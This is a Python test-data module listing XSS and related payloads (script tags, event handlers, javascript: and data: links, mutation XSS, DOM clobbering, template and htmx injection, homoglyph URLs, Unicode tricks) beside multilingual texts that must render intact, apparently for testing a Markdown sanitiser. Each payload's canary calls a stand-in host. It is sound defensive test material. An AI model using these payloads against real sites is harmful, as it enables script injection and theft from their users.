"""What somebody might type to hurt a reader, grouped by the idea behind it, and honest texts that must come out whole.

Written for this project. `CANARY` is what each of them would do if it ran: set a mark on the window, open a dialog,
write to the console and ask another host; tests/browser/test_payloads.py looks for all four.
"""

CANARY = "window.canary=1;alert(1);console.error('canary');fetch('https://canary.example/')"
SRC = "https://canary.example/x"

RAW_HTML = [
    f"<script>{CANARY}</script>",
    f"<SCRIPT SRC={SRC}.js></SCRIPT>",
    f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    f"<script\n>{CANARY}</script\n>",
    f"<script/x>{CANARY}</script>",
    f"text <iframe src={SRC}></iframe> text",
    f'<iframe srcdoc="<script>{CANARY}</script>"></iframe>',
    f"<object data={SRC}></object>",
    f"<embed src={SRC}>",
    '<base href="https://canary.example/">',
    f'<meta http-equiv="refresh" content="0;url={SRC}">',
    f'<link rel="stylesheet" href="{SRC}.css">',
    f"<form action={SRC}><button>Go on</button></form>",
    '<input autofocus value="x"><textarea>y</textarea>',
    "</p></div></article></main><h1>Another page</h1>",
    f"<template><script>{CANARY}</script></template>",
]
EVENT_HANDLERS = [
    f'<img src=x onerror="{CANARY}">',
    f'<img src={SRC} onload="{CANARY}">',
    f'<body onload="{CANARY}">',
    f'<details open ontoggle="{CANARY}"><summary>x</summary></details>',
    f'<video autoplay oncanplay="{CANARY}"><source src={SRC}></video>',
    f'<audio src=x onerror="{CANARY}">',
    f'<input onfocus="{CANARY}" autofocus>',
    f'<marquee onstart="{CANARY}">x</marquee>',
    f'<div onanimationstart="{CANARY}" style="animation:x 1s">x</div>',
    f'<p onpointerover="{CANARY}" tabindex=0 onfocus="{CANARY}">x</p>',
    f'<a href="https://e.org" onclick="{CANARY}">x</a>',
    f'<img/src/onerror="{CANARY}">',
]
ATTRIBUTES = [
    '<p id="main" class="btn btn-danger" style="position:fixed;inset:0;background:red">x</p>',
    f'<b style="background:url({SRC})">x</b>',
    '<a href="https://e.org" target="_blank" rel="opener" ping="https://canary.example/">x</a>',
    f'<a href="https://e.org" download style="background:url({SRC})">x</a>',
    '<p dir="rtl" lang="xx" hidden contenteditable accesskey="s">x</p>',
    f"<blockquote cite={SRC}>x</blockquote>",
    "<ol start=-5 reversed type=a><li value=9>x</li></ol>",
    f'[x](https://e.org "onmouseover={CANARY}")',
    "[x](https://e.org 'x\" onclick=\"window.canary=1')",
    "[x](https://e.org \"x' onfocus='window.canary=1' autofocus='\")",
    '<https://e.org/"onmouseover="window.canary=1">',
    "[x](https://e.org/`onclick=window.canary=1`)",
]
SCHEMES = [
    f"[x](javascript:{CANARY})",
    "[x](JaVaScRiPt:window.canary=1)",
    "[x](&#106;avascript:window.canary=1)",
    "[x](&#x6A&#x61&#x76&#x61script:window.canary=1)",
    "[x](javascript&colon;window.canary=1)",
    "[x](java&Tab;script:window.canary=1)",
    "[x](java&NewLine;script:window.canary=1)",
    "[x](java\tscript:window.canary=1)",
    "[x](<java\nscript:window.canary=1>)",
    "[x](<  javascript:window.canary=1>)",
    "[x](\x01javascript:window.canary=1)",
    "[x](javascript://e.org/%0awindow.canary=1)",
    "[x](javascript:https://e.org/)",
    "[x](data:text/html,<script>window.canary=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuY2FuYXJ5PTE8L3NjcmlwdD4=)",
    "[x](DATA:image/svg+xml,<svg/onload=window.canary=1>)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://e.org/1) [y](file:///etc/passwd) [z](ftp://e.org/x)",
    "[x](view-source:https://e.org) [y](about:blank) [z](chrome://settings)",
    "[x](mailto:a@e.org) [y](tel:+22312345678) [z](sms:+223)",
    "[x](intent://e.org#Intent;scheme=https;end)",
    "[x](\\javascript:window.canary=1)",
    "[x](j\\avascript:window.canary=1)",
]
AUTOLINKS = [
    "<javascript:window.canary=1>",
    "<JAVASCRIPT:window.canary=1>",
    "<data:text/html,x>",
    "<mailto:a@e.org> and <a@e.org>",
    "<tel:+22312345678>",
    "<https://e.org/<script>window.canary=1</script>>",
    "<https://e.org/?a=1&lt=2&quot=3>",
]
ADDRESSES = [
    "[x](/classes/open/)",
    "[x](//canary.example/x)",
    "[x](\\\\canary.example/x)",
    "[x](/\\canary.example/x)",
    "[x](https://canary.example\\\\@reuters.com/x)",
    "[x](https:canary.example)",
    "[x](https:/canary.example)",
    "[x](https:///canary.example)",
    "[x](?delete=1) [y](#main) [z](../../)",
    "[x](http://)",
    "[x](https://[::1)",
    "[x](https://e.org:99999999/)",
    "[https://reuters.com](https://canary.example/x)",
    "[x](https://reuters.com@canary.example/x)",
    "[x](https://reuterѕ.com/x)",
    "[x](https://ｒｅｕｔｅｒｓ.com/x)",
    "[x](https://reuters.com\u2024canary.example/x)",
    "[\u202emoc.sretuer](https://canary.example/x)",
]
NESTED = [
    "[a [b](javascript:window.canary=1) c](https://e.org)",
    "[![x](https://canary.example/x.png)](javascript:window.canary=1)",
    "![x](https://canary.example/x.png)",
    f"![x]({SRC} 'y')",
    "**[x](javascript:window.canary=1)** *[y](data:x)*",
    "> > * [x](javascript:window.canary=1)\n> 1. <img src=x onerror=window.canary=1>",
    "[x]: javascript:window.canary=1\n\n[x] [x][] [y][x]",
    "[x][1]\n\n[1]: data:text/html,x 'y'",
    "*a **b `c* d** e` <i>f*",
    "[x](https://e.org/(javascript:window.canary=1))",
    "[" * 60 + "x" + "](javascript:window.canary=1)" * 60,
    "> " * 90 + "deep",
]
CODE = [
    "```html\n<script>window.canary=1</script>\n```",
    '```"><img src=x onerror=window.canary=1>\nx\n```',
    "``` onclick=window.canary=1\nx\n```",
    "    <script>window.canary=1</script>",
    "`<script>window.canary=1</script>`",
    "`` `</code><img src=x onerror=window.canary=1>` ``",
    "~~~\n</code></pre><script>window.canary=1</script>\n~~~",
]
COMMENTS = [
    "<!-- --><script>window.canary=1</script>",
    "<!--><img src=x onerror=window.canary=1>-->",
    "<!-->--><script>window.canary=1</script>",
    "<!--[if IE]><script>window.canary=1</script><![endif]-->",
    "<?xml version='1.0'?><script>window.canary=1</script>",
    "<![CDATA[<script>window.canary=1</script>]]>",
    "<!DOCTYPE html><html><head><script>window.canary=1</script>",
]
FOREIGN = [
    "<svg onload=window.canary=1></svg>",
    "<svg><script>window.canary=1</script></svg>",
    "<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.canary=1'><text y=20>x</text></a></svg>",
    f"<svg><use href='{SRC}#x'/><image href='{SRC}'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.canary=1>",
    "<math href='javascript:window.canary=1'>x</math>",
    "<svg><foreignObject><iframe src=javascript:window.canary=1></iframe></foreignObject></svg>",
]
MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=window.canary=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.canary=1>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.canary=1>'>",
    "<listing>&lt;img src=x onerror=window.canary=1&gt;</listing>",
    "<xmp><img src=x onerror=window.canary=1></xmp>",
    "<plaintext><script>window.canary=1</script>",
    "<textarea></textarea><script>window.canary=1</script></textarea>",
    "</title></style></script></textarea><img src=x onerror=window.canary=1>",
    "<select><template><style><!--</style><a rel='--><img src=x onerror=window.canary=1>'>",
    "<table><td></table></td><p><img src=x onerror=window.canary=1>",
]
TEMPLATES = [
    "{{ 7*7 }} {% load static %} {% csrf_token %} {{ request.user }}",
    "{% endpartialdef %}{% include 'base.html' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.canary=1')()}}",
    "%(name)s %s {0} {name} &{x};",
    "&lt;script&gt;window.canary=1&lt;/script&gt; &amp;lt;b&amp;gt;",
]
HTMX = [
    '<p hx-get="/classes/" hx-trigger="load">x</p>',
    '<p data-hx-get="/classes/" data-hx-trigger="load">x</p>',
    '<b hx-on:click="window.canary=1" hx-on::load="window.canary=1">x</b>',
    '<p hx-swap-oob="true" id="main">x</p>',
    "<i hx-vals='js:{a:window.canary=1}' hx-post=/logout/ hx-trigger='every 1s'>x</i>",
    "[x](https://e.org){hx-get=/x hx-trigger=load .btn #main}",
    "<p data-composer='1' data-focus data-leave-site autofocus tabindex=1>x</p>",
]
CLOBBERING = [
    "<a id=htmx name=htmx href=https://e.org>x</a>",
    "<form name=body><input name=firstChild></form>",
    "<img name=getElementById><img id=cookie name=cookie>",
    "<a id=config><a id=config name=allowEval href=https://e.org>x</a>",
    "<div id=composer-title-1-0-0>x</div><p id=p1>y</p>",
]
STYLES = [
    "<style>*{display:none}</style>",
    f"<style>@import '{SRC}.css';</style>",
    "<div style=\"background:url('javascript:window.canary=1')\">x</div>",
    "<p style='width:expression(window.canary=1)'>x</p>",
    f"<font face='x' color=red><center><table background={SRC}><tr><td>x</table>",
]
UNICODE = [
    "\uff1cscript\uff1ewindow.canary=1\uff1c/script\uff1e",
    "\u2039script\u203awindow.canary=1",
    "<\u200bscript>window.canary=1</script>",
    "<scr\u00adipt>window.canary=1</script>",
    "<s\u0000cript>".replace("\u0000", "\ufffd") + "window.canary=1</script>",
    "+ADw-script+AD4-window.canary=1+ADw-/script+AD4-",
    "%3Cscript%3Ewindow.canary=1%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e",
    "\u2028<script>window.canary=1</script>\u2029",
    "\u202etpircs<\u202c and \u2066\u2067unclosed",
    "Z" + "\u0321\u0322\u0327\u0328\u0334\u0335\u0340\u0341" * 12 + "algo over the lines",
    "\ud7ff\ue000\ufdd0\uffff\U0010ffff at the ends of the planes",
    "\u115f\u1160\u3164\u2800 nothing to see \ufeff\u2060\u200d",
    "\U000e0041\U000e0042 tags nobody sees",
    "𝓳𝓪𝓿𝓪𝓼𝓬𝓻𝓲𝓹𝓽:window.canary=1 and \u24d9\u24d0\u24e5\u24d0script:x",
]

PAYLOADS = {
    "raw HTML": RAW_HTML,
    "event handlers": EVENT_HANDLERS,
    "attributes": ATTRIBUTES,
    "schemes": SCHEMES,
    "autolinks": AUTOLINKS,
    "addresses": ADDRESSES,
    "nested Markdown": NESTED,
    "code": CODE,
    "comments": COMMENTS,
    "foreign elements": FOREIGN,
    "mutations": MUTATIONS,
    "templates": TEMPLATES,
    "htmx": HTMX,
    "clobbering": CLOBBERING,
    "styles": STYLES,
    "Unicode": UNICODE,
}

REFUSED = ["nothing\x00 passes", "<scr\x00ipt>window.canary=1</scr\x00ipt>", "[x](java\x00script:window.canary=1)"]
"""With a null byte: no form takes them."""

HONEST = {
    "Arabic": "اِمْتَنَعَتْ خَمْسُ دُوَلٍ عَنِ التَّصْوِيتِ، وَلَمْ يَذْكُرِ الكَاتِبُ إِلَّا اثْنَتَيْنِ.",
    "N'Ko": "ߊ߲ ߧߋ߫ ߡߎ߲߬ ߝߐ߫ ߟߊ߫߸ ߞߎߡߊ ߢߌ߲߬ ߝߊ߬ߘߏ߬ߓߊ ߦߋ߫ ߡߌ߲߫؟ ߡߊ߬ߟߌ߫ ߟߊ߫߹",
    "Tifinagh": "ⴰⵣⵓⵍ ⴼⵍⵍⴰⵡⵏ, ⵎⴰⵏⵣⴰⴽⵉⵏ ⵜⴳⵉⵎ ⴰⵙⵙ ⴰⴷ ⴳ ⵜⵉⵏⵎⵍ?",
    "Bambara": "Án bɛ́ɛ yé kàlàn kɛ́ lìbúrú ìn ná, ǹka án má bɛ̀n à kɔ̀rɔ́ kàn.",
    "French": "« Ces États se sont abstenus », écrit l’auteur : où l’a-t-il lu ? Ça m’étonne ; et toi ?",
    "in both directions": "He wrote “قرار مجلس الأمن” and 1973 (2011), then went on: \u2067سؤال\u2069?",
}
